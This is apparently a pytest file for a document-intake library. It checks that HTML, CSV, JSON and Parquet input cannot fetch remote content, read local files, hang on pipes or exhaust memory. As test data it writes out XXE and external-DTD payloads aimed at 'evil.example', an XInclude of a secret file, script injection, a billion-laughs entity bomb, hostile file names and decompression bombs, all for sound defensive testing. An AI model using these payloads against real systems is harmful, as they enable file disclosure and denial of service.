"""Nothing in a file runs, is fetched, breaks out, is waited for, or fills the memory."""

from __future__ import annotations

import io
import os
import socket
from pathlib import Path
from typing import Any

import pytest

from dateline.intake import Arrival, Options, Refusal, count_paths, read_bytes, read_paths

PROSE = "The mayor of Velmora said on Sunday that two people had been hurt when a bridge fell into the river."


def one(data: bytes | str, name: str, options: Options = Options()) -> Arrival | Refusal:  # noqa: B008 - frozen
    (item,) = read_bytes(data.encode() if isinstance(data, str) else data, name, options)
    return item


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise AssertionError("a socket was opened")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize(
    "markup",
    [
        '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "{secret}">]><html><body><p>&x;</p>{prose}</body>',
        '<!DOCTYPE html [<!ENTITY % d SYSTEM "http://evil.example/d.dtd"> %d;]><html><body>{prose}</body></html>',
        '<!DOCTYPE html SYSTEM "http://evil.example/d.dtd"><html><body>{prose}</body></html>',
        '<html xmlns:xi="http://www.w3.org/2001/XInclude"><body><xi:include href="{secret}" parse="text"/>{prose}',
        '<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">'
        '<link rel="stylesheet" href="//evil.example/x.css"></head><body>{prose}</body></html>',
        '<html><body><script src="http://evil.example/a.js"></script><img src="http://evil.example/i.png">'
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>{prose}</body></html>',
    ],
)
def test_a_page_fetches_nothing_and_opens_nothing(markup: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret")
    item = one(markup.replace("{secret}", secret.as_uri()).replace("{prose}", f"<p>{PROSE}</p>" * 3), "a.html")
    assert isinstance(item, Arrival)
    assert PROSE in item.report.text
    assert "secret" not in item.report.text and "alert" not in item.report.text


def test_entities_do_not_multiply() -> None:
    bomb = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    item = one(
        f'<!DOCTYPE html [<!ENTITY e0 "ha">{bomb}]><html><body><p>&e9;</p><p>{PROSE}</p></body></html>', "a.html"
    )
    assert isinstance(item, Arrival)
    assert len(item.report.text) < 1_000


def test_pipes_and_devices_are_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.txt")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(tmp_path / "s.txt"))
    for path in (tmp_path / "pipe.txt", tmp_path / "s.txt", Path("/dev/zero")):
        (item,) = read_paths([path])
        assert isinstance(item, Refusal) and "pipe or a device" in item.problem
    listener.close()


def test_links_that_go_round_in_circles(tmp_path: Path) -> None:
    (tmp_path / "round.txt").symlink_to("round.txt")
    (tmp_path / "here").symlink_to(".")
    (tmp_path / "a.txt").write_text(PROSE)
    got = list(read_paths([tmp_path]))
    assert [type(item) for item in got] == [Arrival, Refusal]
    assert count_paths([tmp_path]) == 2


def test_folders_in_one_another_without_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    depth = 1_200
    monkeypatch.chdir(tmp_path)
    for _ in range(depth):
        Path("a").mkdir()
        os.chdir("a")
    Path("x.txt").write_text(PROSE)
    (item,) = read_paths([tmp_path])
    assert isinstance(item, Arrival)
    Path("x.txt").unlink()
    for _ in range(depth):  # what clears up after tests would fail on so deep a folder
        os.chdir("..")
        Path("a").rmdir()


def test_names_of_files_that_are_no_text(tmp_path: Path) -> None:
    names = [b"a\nb.txt", b"\xff\xfe.txt", b"-rf.txt", b"\x1b[31m.txt", "\u202egnp.txt".encode(), b"[red]x.txt"]
    for name in names:
        (tmp_path / os.fsdecode(name)).write_text(f"{PROSE} {name!r}")
    got = list(read_paths([tmp_path]))
    assert len(got) == len(names)
    for item in got:
        assert isinstance(item, Arrival)
        (item.report.path or "").encode()


def test_a_table_whose_quotation_mark_never_closes_ends_there() -> None:
    small = Options(limit=10)
    header = one(b'"text,' + b"x\n" * 200_000, "a.csv", small)
    assert isinstance(header, Refusal)
    row = one(b'id,text\n1,"' + b"x\n" * 200_000, "a.csv", small)
    assert isinstance(row, Refusal) and row.line == 2
    line = one(b"id,text\n1," + b"x" * 2_000_000 + b"\n2,hello\n", "a.csv", small)
    assert isinstance(line, Refusal) and line.line == 2


def test_one_refusal_for_one_endless_line_of_wide_json() -> None:
    record = '{"text": "a b c"}\n'
    got = list(read_bytes((record + "x" * 400_000 + "\n" + record).encode("utf-16"), "a.jsonl", Options(limit=10)))
    assert [type(item) for item in got] == [Arrival, Refusal, Arrival]


@pytest.mark.parametrize(
    "rest",
    ['"id": ' + "9" * 5_000, '"x": ' + "[" * 100_000, '"x": ' + '{"a":' * 990 + "1" + "}" * 990, '"outlet": ["a"]'],
)
@pytest.mark.parametrize("name", ["a.jsonl", "a.json"])
def test_json_of_no_use_is_refused_or_read(rest: str, name: str) -> None:
    list(read_bytes(f'{{"text": "{PROSE}", {rest}}}'.encode(), name))
    list(read_bytes(f'[{{"text": "{PROSE}", {rest}}}]'.encode(), name))


def parquet(columns: dict[str, Any]) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    sink = io.BytesIO()
    pq.write_table(pa.table(columns), sink, compression="zstd")
    return sink.getvalue()


def test_a_parquet_file_that_swells() -> None:
    import pyarrow as pa

    long = pa.DictionaryArray.from_arrays(pa.array([0] * 2_000, pa.int32()), pa.array([PROSE * 5_000]))
    got = list(read_bytes(parquet({"text": long}), "a.parquet", Options(limit=1_000)))  # a gigabyte in 2 kB
    assert len(got) == 2_000 and all(isinstance(item, Refusal) for item in got)
    lists = pa.array([[0] * 1_000_000], pa.list_(pa.int64()))
    assert isinstance(one(parquet({"text": [PROSE], "x": lists}), "a.parquet"), Refusal)


def test_a_parquet_row_that_cannot_be_told_costs_only_itself() -> None:
    import pyarrow as pa

    days = pa.array([0, 2**60], pa.timestamp("us"))
    first, second = read_bytes(parquet({"text": [PROSE, PROSE], "published": days}), "a.parquet")
    assert isinstance(first, Arrival) and first.report.published == "1970-01-01T00:00:00"
    assert isinstance(second, Refusal) and second.line == 2
    nowhere = pa.array([0], pa.timestamp("us", "No/Where"))
    assert isinstance(one(parquet({"text": [PROSE], "published": nowhere}), "a.parquet"), Refusal)
